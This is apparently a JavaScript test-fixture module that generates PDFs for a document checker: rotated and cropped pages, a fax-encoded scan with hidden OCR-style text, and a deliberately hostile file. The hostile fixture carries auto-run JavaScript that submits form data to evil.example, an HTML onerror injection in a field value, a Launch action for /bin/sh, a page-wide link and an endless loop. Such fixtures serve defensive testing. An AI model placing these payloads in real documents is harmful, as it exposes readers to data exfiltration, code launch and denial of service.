// PDFs that are made for a check: pages turned and cut, a scan with words under it, and a file that tries to do things.

const encoder = new TextEncoder();
const FONT = "3 0 R";

/** Pages that are turned, cut and in another unit, each with two lines of words; `names` are words that stand on one page only. */
export const turned = names => file(names.map((name, i) => ({
  content: `BT /F 14 Tf 1 0 0 1 120 500 Tm (The ${name} archive was founded by Zed in the spring.) Tj 0 -30 Td (It keeps nine ${name} letters and seven maps.) Tj ET`,
  page: `/MediaBox[0 0 612 792]/CropBox[50 100 600 700]/Rotate ${90 * (i % 4)}/UserUnit ${i < 4 ? 1 : 2}`,
})));

/** A picture as a fax machine packs it (black), and words that are there to be found and not seen, as text recognition writes them. */
export const scanned = name => file([{
  content: `q 200 0 0 200 100 300 cm /I Do Q BT 3 Tr /F 14 Tf 100 600 Td (The ${name} archive was founded by Zed in the spring.) Tj ET`,
  page: "/MediaBox[0 0 612 792]",
  picture: "/Width 64/Height 64/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 64/Rows 64/BlackIs1 true>>",
  bytes: [...Array(8).fill(0xff), 0x00, 0x10, 0x01],
}]);

/** Scripts that run when it is opened, drawn, or a field is calculated, an address to open, a program to start, and a link over the whole page. */
export const hostile = name => file([{
  content: `BT /F 14 Tf 120 500 Td (The ${name} archive was founded by Zed in the spring.) Tj ET`,
  page: `/MediaBox[0 0 612 792]/AA<</O<</S/JavaScript/JS(app.alert\\(2\\);)>>>>/Annots[
    <</Type/Annot/Subtype/Link/Rect[0 0 612 792]/Border[0 0 0]/A<</S/URI/URI(http://evil.example/link)>>>>
    <</Type/Annot/Subtype/Widget/FT/Tx/T(f)/V(<img src=x onerror=alert\\(3\\)>)/Rect[100 100 300 130]/F 4/AA<</C<</S/JavaScript/JS(app.alert\\(4\\);)>>>>>>
    <</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 600 700]/F 4/A<</S/Launch/F(/bin/sh)>>>>]`,
}], `/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.example/form'\\);app.launchURL\\('http://evil.example/'\\);)>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(while\\(true\\);)>>]>>>>/AcroForm<</Fields[]/NeedAppearances true>>`);

/** A file of pages, each { content, page, picture, bytes }; `catalogue` is what its root says besides. */
function file(pages, catalogue = "") {
  const objects = [`<</Type/Catalog/Pages 2 0 R${catalogue}>>`, "", "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"];
  const add = object => `${objects.push(object)} 0 R`;
  const kids = pages.map(({ content, page, picture, bytes }) => {
    const image = picture ? `/XObject<</I ${add(stream(`/Type/XObject/Subtype/Image${picture}`, Uint8Array.from(bytes)))}>>` : "";
    return add(`<</Type/Page/Parent 2 0 R${page}/Resources<</Font<</F ${FONT}>>${image}>>/Contents ${add(stream("", encoder.encode(content)))}>>`);
  });
  objects[1] = `<</Type/Pages/Count ${kids.length}/Kids[${kids.join(" ")}]>>`;
  const parts = [Buffer.from("%PDF-1.7\n")];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  const starts = objects.map((object, i) => {
    const start = length();
    parts.push(Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(object), Buffer.from("\nendobj\n"));
    return start;
  });
  const end = length();
  parts.push(Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${starts.map(s => `${`${s}`.padStart(10, "0")} 00000 n \n`).join("")}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${end}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const stream = (entries, bytes) => Buffer.concat([Buffer.from(`<<${entries}/Length ${bytes.length}>>stream\n`), Buffer.from(bytes), Buffer.from("\nendstream")]);
